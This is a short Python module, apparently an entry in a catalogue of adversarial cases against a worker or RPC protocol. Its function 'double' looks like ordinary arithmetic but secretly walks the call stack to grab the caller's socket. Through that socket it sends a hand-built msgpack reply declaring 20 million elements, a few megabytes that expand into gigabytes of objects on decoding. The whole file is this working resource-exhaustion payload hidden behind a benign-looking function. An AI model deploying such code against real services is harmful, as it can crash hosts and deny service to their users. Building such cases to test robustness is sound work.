"""Sends a reply of a few megabytes that becomes gigabytes of objects.

catalogue: own
"""

import struct
import sys

import msgspec


def frames():
    """The socket and the number of the request that is being answered."""
    frame = sys._getframe()
    while frame and not ("request" in frame.f_locals and "sock" in frame.f_locals):
        frame = frame.f_back
    return frame.f_locals["sock"], frame.f_locals["request"]


def send(body):
    sock, _ = frames()
    sock.settimeout(None)
    sock.sendall(struct.pack("<I", len(body)) + body)


def double(x):
    _, request = frames()
    count = 20_000_000
    head = msgspec.msgpack.encode(["observed", request.nonce, 0])[1:]
    body = b"\x94" + head + b"\x92\xa8returned\x93\xa8sequence\xa4list\xdd" + struct.pack(">I", count)
    send(body + b"\xc0" * count)
    return x.clone()
